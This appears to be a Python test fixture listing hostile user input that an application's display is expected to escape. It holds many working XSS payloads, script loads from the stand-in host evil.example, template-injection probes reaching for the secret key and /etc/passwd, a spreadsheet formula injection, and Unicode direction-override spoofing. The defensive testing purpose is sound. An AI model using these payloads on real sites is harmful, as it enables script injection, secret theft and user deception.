"""What strangers may write: each must be shown as typed and do nothing.

What runs would set `window.__pwned`, ask in a dialog, or call `evil.example`; `windows` sees all three.
"""

RUN = "window.__pwned=1;alert(1)"
AWAY = "//evil.example/x"

_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={AWAY}.js></script>",
    f"<script type=module>import 'http:{AWAY}.mjs';{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
)
_HANDLERS = (
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}//",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<div onpointerover={RUN} style='position:fixed;inset:0'>x</div>",
    f"<x contenteditable onblur={RUN}>y</x>",
)
_FOREIGN = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
)
_LOADS = (
    f"<img src=http:{AWAY}.png>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=prefetch href=http:{AWAY}>",
    f"<iframe src=http:{AWAY}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=http:{AWAY}.swf></object>",
    f"<embed src=http:{AWAY}.swf>",
    f"<meta http-equiv=refresh content='0;url=http:{AWAY}'>",
    f"<base href=http:{AWAY}/>",
    f"<form action=http:{AWAY}><button>Claim</button></form>",
    f"<audio src=http:{AWAY}.mp3 autoplay></audio>",
    f"<img srcset='http:{AWAY}.png 1x'>",
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//http://example.com",
    f"java\tscript:{RUN}",
    f"<a href='javascript:{RUN}'>Refund</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"[Refund](javascript:{RUN})",
    f"http:{AWAY}?q=<script>",
    f"vbscript:{RUN}",
)
_BREAKERS = (
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</option></select><img src=x onerror={RUN}>",
    f"</pre></details><script>{RUN}</script>",
    f"--></style><script>{RUN}</script>",
    f"`${{{RUN}}}`",
    f"';{RUN}//",
    f'";{RUN}//',
    "<", ">", '"', "'", "&", "</", "<!", "]]>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7|add:7 }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% include '/etc/passwd' %}",
    "{% autoescape off %}<b>x</b>{% endautoescape %}",
    "{# hidden #}",
    "{customer} {0.__class__} %(id)s %s ${7*7} #{7*7} <%= 7*7 %>",
)
_STYLES = (
    "<style>*{display:none}</style>",
    f"<style>@import 'http:{AWAY}.css';</style>",
    f"<div style='background:url(http:{AWAY}.png)'>x</div>",
    "<style>#claim{position:fixed;inset:0;opacity:0}</style>",
    f'<div style="width:expression({RUN})">x</div>',
)
_ENTITIES = (
    "&lt;script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#60;img src=x&#62; &#x3c; &nbsp; &notit; &copy",
    "&#0; %00 \\0 \\x00 \u2400",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
_LETTERS = (
    "\u202egpj.exe\u202c refund",  # turns the direction of what follows
    "\u2066isolate\u2069 \u2067left open",
    "\u202a\u202b\u202d\u202e left open, all four",
    "re\u200bfund\u200c with\u200d\u2060out\ufeff width",
    "مرحبا، أريد استرداد inv_1 من فضلك",
    "שלום, 240.00 EUR",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇩🇪",
    "Z̸̢̛̪͔a̴̡͓̕l̵̻͝g̶̠̈o̷͇̔ ̵̰̚t̶͎́e̷̠͛x̶̺̋t̵̜̊",
    "ｆｕｌｌ　ｗｉｄｔｈ Ａ＜ｂ＞",
    "\u2028line\u2029paragraph\u0085next",
    "tabs\tand  two  spaces",
    "ＮＦＫＣ ﬁ ① ℌ ½ ﷺ",
    "\x1b[31mred\x1b[0m \x07bell \x7fdelete",
    "= cmd|' /C calc'!A0",
    "one\n\ntwo\n<b>three</b>",
)
# As long as a message may be, with and without a place to break.
LONG = ("W" * 10_000, "<b>lang</b> " * 833)

STRINGS = (
    *_SCRIPTS, *_HANDLERS, *_FOREIGN, *_LOADS, *_ADDRESSES, *_BREAKERS, *_TEMPLATES, *_STYLES, *_ENTITIES,
    *_LETTERS,
)  # fmt: skip
assert len(set(STRINGS)) == len(STRINGS) >= 60


def within(limit: int) -> list[str]:
    """Those, and the start of the long ones, as they fit a column of this length."""
    return [text for text in STRINGS if len(text) <= limit] + [text[:limit].strip() for text in LONG]
